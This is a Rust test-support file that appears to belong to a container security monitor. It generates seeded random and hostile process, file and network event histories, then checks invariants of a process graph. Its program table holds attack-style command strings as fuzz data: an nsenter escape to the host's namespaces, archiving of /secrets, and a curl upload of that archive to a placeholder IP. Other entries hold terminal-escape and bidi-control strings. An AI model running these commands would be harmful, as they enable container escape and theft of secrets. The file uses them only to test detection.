//! Histories that no kernel would tell: a generator of random and hostile events, the same for the same seed; and what
//! must hold of a graph all the same.
#![allow(dead_code, clippy::unwrap_used, unreachable_pub)]

mod payload;

use std::collections::HashSet;
use std::net::SocketAddr;
use std::time::Duration;

use lanner_core::event::*;
use lanner_core::graph::{Container, Graph, Process};

const PROGRAMS: &[(&str, &str)] = &[
    ("/bin/sh", "sh"),
    ("/bin/bash", "bash -s"),
    ("/usr/bin/python3", "python3 -"),
    ("/usr/bin/nsenter", "nsenter -t 1 -m sh"),
    ("/bin/tar", "tar czf /x.tgz /secrets"),
    ("/usr/bin/curl", "curl -T /x.tgz http://192.0.2.1"),
    ("/usr/bin/kubelet", "kubelet"),
    ("/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2"),
    ("/usr/bin/ctr", "ctr run"),
    ("/usr/sbin/runc", "runc init"),
    ("/bin/httpd", "httpd"),
    ("memfd:x", ""),
    ("", ""),
    ("/\u{1b}[2J\n", "\u{202e} \u{7}"),
];
const FILES: &[&str] = &[
    "/etc/kubernetes/manifests/x.yaml",
    "/host/etc/kubernetes/manifests/y.json",
    "/tmp/x.tgz",
    "/bin/sh",
    "",
    "/a/../..//b",
    "/config.json",
];
const GROUPS: &[&str] = &[
    "/kubepods/besteffort/podfedcba98-7654-3210-fedc-ba9876543210/a",
    "/kubepods/besteffort/pod0123456789abcdef0123456789abcdef/b",
    "/kubepods.slice/kubepods-besteffort-pod.slice",
    "/pod",
    "",
    "/\u{0}\u{ff}",
];

const WORDS: &[&str] = &["sh", "cgroup", "/", "", "kworker/0", "\u{1b}]0;x\u{7}", "\u{202e}\n"];

/// Marsaglia's xorshift64*: small, and the same everywhere.
pub struct Random(u64);

impl Random {
    pub fn new(seed: u64) -> Random {
        Random(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 11
    }

    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    pub fn one_in(&mut self, n: u64) -> bool {
        self.below(n) == 0
    }

    pub fn pick<'a, T>(&mut self, from: &'a [T]) -> &'a T {
        &from[usize::try_from(self.below(from.len() as u64)).unwrap()]
    }
}

/// A history of `length` events. All of it comes from small pools, so that everything meets everything else: pids are used
/// again, parents are absent, ended, or descendants, and what happens is seldom in order.
pub fn history(seed: u64, length: u64) -> Vec<Event> {
    let mut random = Random::new(seed);
    // Few processes make cycles and joins likely, many make chains deep.
    let pool = *random.pick(&[5, 20, 120]);
    let mut teller = Teller { random, pool, now: 1_000_000_000, seq: 0 };
    (0..length).map(|_| teller.event()).collect()
}

struct Teller {
    random: Random,
    pool: u64,
    now: u64,
    seq: u64,
}

impl Teller {
    fn event(&mut self) -> Event {
        let step = self.random.below(3_000_000_000);
        match self.random.below(40) {
            0 => self.now = self.now.saturating_sub(step * 3),
            1 => {}
            2 => return self.with(u64::MAX),
            _ => self.now += *self.random.pick(&[0, 1_000, 1_000_000, 3_000_000_000, step]),
        }
        self.with(self.now)
    }

    fn with(&mut self, time: u64) -> Event {
        // Losses are gaps.
        self.seq += if self.random.one_in(50) { 1 + self.random.below(9) } else { 1 };
        let process = self.key();
        let origin = if self.random.one_in(15) { Origin::Backfill } else { Origin::Live };
        let header =
            Header { seq: self.seq, time: BootTime(time), cpu: 0, process, tid: process.pid, origin, compat: false };
        Event { header, payload: self.any() }
    }

    fn container(&mut self) -> ContainerInfo {
        let source = Text::from(*self.random.pick(&["file", "api", ""]));
        let pod = PodName { name: Text::from("container aaaa"), source, ..PodName::default() };
        ContainerInfo {
            id: ContainerId(Text::from(*self.random.pick(&["aaaa", "bbbb", "cccc", "dddd", ""]))),
            told_by: *self.random.pick(&[ToldBy::Nobody, ToldBy::Cri]),
            name: Text::from(*self.random.pick(&["", "host", "container bbbb"])),
            pod: self.random.one_in(2).then_some(pod),
            ..ContainerInfo::default()
        }
    }

    fn key(&mut self) -> ProcessKey {
        if self.random.one_in(40) {
            return ProcessKey::UNKNOWN;
        }
        let pid = u32::try_from(self.random.below(self.pool)).unwrap();
        // Three lives for each pid.
        ProcessKey::new(pid, 500_000_000 * self.random.below(3))
    }

    fn task(&mut self) -> Task {
        let parent = (!self.random.one_in(8)).then(|| self.key());
        let group = self.random.below(GROUPS.len() as u64 * 2);
        let group = usize::try_from(group).ok().and_then(|i| GROUPS.get(i)).copied();
        let container = group.map(|_| ContainerId(Text::from(*self.random.pick(&["aaaa", "bbbb", "cccc", ""]))));
        Task {
            parent,
            comm: Text::from(*self.random.pick(&["sh", "kthreadd", "systemd", ""])),
            ns_pid: u32::try_from(self.random.below(4)).unwrap(),
            context: Context {
                tty: self.random.one_in(3).then(|| Text::from("pts0")),
                namespaces: self.namespaces(),
                cgroup: Text::from(group.unwrap_or_default()),
                container,
                ..Context::default()
            }
            .into(),
            ..Task::default()
        }
    }

    fn namespaces(&mut self) -> Namespaces {
        let mnt = *self.random.pick(&[0, 1, 1, 2, 3]);
        Namespaces { mnt, pid: mnt, net: 1, uts: 1, ipc: 1, cgroup: 1, user: u32::MAX }
    }

    fn exec(&mut self) -> Exec {
        let (exe, args) = *self.random.pick(PROGRAMS);
        let exe = File::new(exe, self.random.below(2), self.random.below(30));
        let stdio = [(); 3].map(|()| self.stdio());
        let args = Args { list: args.split(' ').map(Text::from).collect(), truncated: self.random.one_in(9) };
        Exec { task: self.task(), image: Image { exe, args, cwd: Text::from("/"), stdio, ..Image::default() } }
    }

    fn stdio(&mut self) -> Stdio {
        let kinds = [StdioKind::Pipe, StdioKind::Pipe, StdioKind::Terminal, StdioKind::Socket, StdioKind::Closed];
        Stdio { kind: *self.random.pick(&kinds), ino: self.random.below(6), peer: None }
    }

    fn word(&mut self) -> Text {
        Text::from(*self.random.pick(WORDS))
    }

    fn file(&mut self) -> File {
        let (path, ino) = (*self.random.pick(FILES), self.random.below(30));
        File { deleted: self.random.one_in(9), ..File::new(path, self.random.below(2), ino) }
    }

    fn open(&mut self) -> Open {
        let access = *self.random.pick(&[(true, false), (false, true), (true, true), (false, false)]);
        let access = Access { read: access.0, write: access.1 };
        let [created, written_before, directory] = [3, 2, 20].map(|n| self.random.one_in(n));
        let passed = self.random.one_in(2).then(|| Passed {
            name: self.random.one_in(2).then(|| (*self.random.pick(FILES)).into()),
            flags: OpenFlags(self.random.below(1 << 24) as u32),
            mode: self.random.below(1 << 12) as u16,
        });
        Open { file: self.file(), fd: 3, access, created, written_before, directory, through: Through::Call, passed }
    }

    fn address(&mut self) -> SocketAddr {
        let (host, port) = (self.random.below(3), *self.random.pick(&[0, 80]));
        SocketAddr::from(([192, 0, 2, u8::try_from(host).unwrap()], port))
    }

    fn udp(&mut self) -> Udp {
        let stage = *self.random.pick(&[UdpStage::Started, UdpStage::Continues, UdpStage::Silent, UdpStage::Closed]);
        let [sent, received] = [0; 2].map(|_| Datagrams { datagrams: 1, bytes: *self.random.pick(&[0, u64::MAX]) });
        let [outgoing, connected] = [2, 2].map(|n| self.random.one_in(n));
        Udp { flow: self.flow(), stage, outgoing, connected, sent, received, lasted: Duration::MAX }
    }

    fn dns(&mut self) -> Dns {
        let addresses = (0..self.random.below(3)).map(|_| self.address().ip()).collect();
        let reply = DnsReply { addresses, records: u16::MAX, ..DnsReply::default() };
        Dns {
            flow: self.flow(),
            transport: DnsTransport::Tcp,
            name: Text::from(*self.random.pick(&["a.example", "b.example", ""])),
            record_type: RecordType::A,
            reply: (!self.random.one_in(3)).then_some(reply),
            waited: (!self.random.one_in(3)).then_some(Duration::MAX),
        }
    }

    fn flow(&mut self) -> Flow {
        let id = FlowId(self.random.below(9));
        Flow { id, local: self.address(), remote: self.address(), netns: 1 }
    }
}

/// What holds of every graph; `seed` is said when it does not.
pub fn check_graph(graph: &Graph, seed: u64) {
    assert_eq!(graph.living(), graph.processes().filter(|p| p.is_alive()).count(), "seed {seed}");
    let mut listed = HashSet::new();
    for process in graph.processes() {
        let mut above = HashSet::new();
        let mut next = Some(process.key);
        while let Some(key) = next {
            assert!(above.insert(key), "seed {seed}: {key} is its own ancestor");
            next = graph.process(key).and_then(|p| p.parent);
        }
        for child in &process.children {
            assert!(listed.insert(*child), "seed {seed}: {child} is listed twice");
            let parent = graph.process(*child).map(|p| p.parent);
            assert_eq!(parent, Some(Some(process.key)), "seed {seed}: {child} is no child of {}", process.key);
        }
    }
    assert!(graph.process(ProcessKey::UNKNOWN).is_none(), "seed {seed}: nobody in particular is no process");
    for process in graph.processes() {
        let found = graph.stays_in(process.key).map(|container| &container.id);
        assert_eq!(found.is_some(), !homes(graph, process).is_empty(), "seed {seed}: {}", process.key);
        assert!(
            found.is_none_or(|id| homes(graph, process).contains(&id)),
            "seed {seed}: {} in {found:?}",
            process.key
        );
    }
}

/// The containers in whose mount namespace a process from outside is.
fn homes<'a>(graph: &'a Graph, process: &Process) -> Vec<&'a ContainerId> {
    let mnt = process.task.context.namespaces.mnt;
    if mnt == 0 || process.task.context.container.is_some() {
        return Vec::new();
    }
    let is_home = |container: &&Container| {
        let root = graph.process(container.root);
        root.is_some_and(|root| {
            root.task.context.namespaces.mnt == mnt && root.task.context.container.as_ref() == Some(&container.id)
        }) && container.host.is_none_or(|host| host.mnt != mnt)
    };
    graph.containers().filter(is_home).map(|container| &container.id).collect()
}
